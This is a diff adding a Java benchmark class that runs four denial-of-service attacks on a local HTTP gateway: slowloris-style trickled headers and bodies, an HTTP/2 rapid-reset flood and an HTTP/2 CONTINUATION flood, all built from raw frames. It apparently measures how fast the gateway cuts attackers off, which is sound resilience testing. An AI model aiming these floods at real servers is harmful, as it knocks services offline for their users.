@@ -1,0 +1,172 @@
+package io.sluice.benchmarks.gateway;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.net.InetAddress;
+import java.net.Socket;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicLong;
+import java.util.function.BooleanSupplier;
+
+/** What one attacker does to a gateway until it is cut off, or until all is over. He counts what he got rid of. */
+enum Attack {
+    /** Hundreds of connections whose heads never end, a byte at a time. */
+    SLOW_HEADS("heads that come a byte at a time", "bytes") {
+        @Override
+        void once(int port, BooleanSupplier over, AtomicLong done) throws IOException, InterruptedException {
+            trickle(port, "GET /api/orders/7 HTTP/1.1\r\nHost: a\r\nX: ", over, done);
+        }
+    },
+    /** The same with bodies: these requests have passed their limits and are under way. */
+    SLOW_BODIES("bodies that come a byte at a time", "bytes") {
+        @Override
+        void once(int port, BooleanSupplier over, AtomicLong done) throws IOException, InterruptedException {
+            trickle(port, "POST /api/orders/7 HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n", over, done);
+        }
+    },
+    /** Requests over HTTP/2, each reset as soon as it is sent. */
+    RAPID_RESETS("HTTP/2 streams that are reset at once", "streams") {
+        @Override
+        void once(int port, BooleanSupplier over, AtomicLong done) throws IOException {
+            ByteArrayOutputStream flood = new ByteArrayOutputStream();
+            for (int i = 0; i < FLOOD; i++) {
+                flood.writeBytes(head(2 * i + 1, END_HEADERS | END_STREAM));
+                flood.writeBytes(reset(2 * i + 1));
+            }
+            flood(port, flood.toByteArray(), done);
+        }
+    },
+    /** Heads over HTTP/2 that are continued for ever. */
+    CONTINUATIONS("HTTP/2 heads that never end", "frames") {
+        @Override
+        void once(int port, BooleanSupplier over, AtomicLong done) throws IOException {
+            ByteArrayOutputStream flood = new ByteArrayOutputStream();
+            flood.writeBytes(head(1, 0));
+            for (int i = 0; i < FLOOD; i++) {
+                flood.writeBytes(frame(CONTINUATION, 0, 1, new byte[0]));
+            }
+            flood(port, flood.toByteArray(), done);
+        }
+    };
+
+    private static final int HEADERS = 1;
+    private static final int RST_STREAM = 3;
+    private static final int SETTINGS = 4;
+    private static final int CONTINUATION = 9;
+    private static final int END_STREAM = 1;
+    private static final int END_HEADERS = 4;
+    private static final int CANCEL = 8;
+    private static final int SLOW_CONNECTIONS = 250;
+    private static final int EVERY_MILLIS = 10;
+    private static final int TRICKLE_ROUNDS = 25;
+    private static final int FLOOD = 1_000;
+
+    private final String name;
+    private final String what;
+
+    Attack(String name, String what) {
+        this.name = name;
+        this.what = what;
+    }
+
+    String text() {
+        return name;
+    }
+
+    /** What it counts. */
+    String what() {
+        return what;
+    }
+
+    /** Ends with an exception when it is cut off. */
+    abstract void once(int port, BooleanSupplier over, AtomicLong done) throws IOException, InterruptedException;
+
+    private static void trickle(int port, String begin, BooleanSupplier over, AtomicLong done)
+            throws IOException, InterruptedException {
+        List<Socket> slow = new ArrayList<>();
+        try {
+            for (int round = 1; !over.getAsBoolean(); round++) {
+                if (slow.size() < SLOW_CONNECTIONS) {
+                    Socket socket = new Socket(InetAddress.getLoopbackAddress(), port);
+                    slow.add(socket);
+                    socket.getOutputStream().write(begin.getBytes(StandardCharsets.US_ASCII));
+                }
+                TimeUnit.MILLISECONDS.sleep(EVERY_MILLIS);
+                if (round % TRICKLE_ROUNDS == 0) {
+                    slow.removeIf(each -> !trickled(each));
+                    done.addAndGet(slow.size());
+                }
+            }
+        } finally {
+            for (Socket each : slow) {
+                each.close();
+            }
+        }
+    }
+
+    private static boolean trickled(Socket socket) {
+        try {
+            socket.getOutputStream().write('a');
+            return true;
+        } catch (IOException e) {
+            return false;
+        }
+    }
+
+    /** All in one piece, which costs the attacker next to nothing, and then until he is cut off. */
+    private static void flood(int port, byte[] frames, AtomicLong done) throws IOException {
+        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
+            socket.getOutputStream()
+                    .write(join(
+                            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
+                            frame(SETTINGS, 0, 0, new byte[0])));
+            socket.getOutputStream().write(frames);
+            done.addAndGet(FLOOD);
+            InputStream in = socket.getInputStream();
+            byte[] dropped = new byte[16 * 1_024];
+            while (in.read(dropped) >= 0) {
+                // Whatever it says.
+            }
+        }
+        throw new IOException("cut off");
+    }
+
+    /** By the static table of HPACK, values as they are. */
+    private static byte[] head(int stream, int flags) {
+        byte[] path = "/api/orders/7".getBytes(StandardCharsets.US_ASCII);
+        ByteBuffer block = ByteBuffer.allocate(7 + path.length);
+        block.put((byte) 0x82)
+                .put((byte) 0x86)
+                .put((byte) 4)
+                .put((byte) path.length)
+                .put(path);
+        block.put((byte) 1).put((byte) 1).put((byte) 'a');
+        return frame(HEADERS, flags, stream, block.array());
+    }
+
+    private static byte[] reset(int stream) {
+        return frame(
+                RST_STREAM, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array());
+    }
+
+    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
+        return ByteBuffer.allocate(9 + payload.length)
+                .putInt(payload.length << 8 | type)
+                .put((byte) flags)
+                .putInt(stream)
+                .put(payload)
+                .array();
+    }
+
+    private static byte[] join(byte[] first, byte[] second) {
+        return ByteBuffer.allocate(first.length + second.length)
+                .put(first)
+                .put(second)
+                .array();
+    }
+}
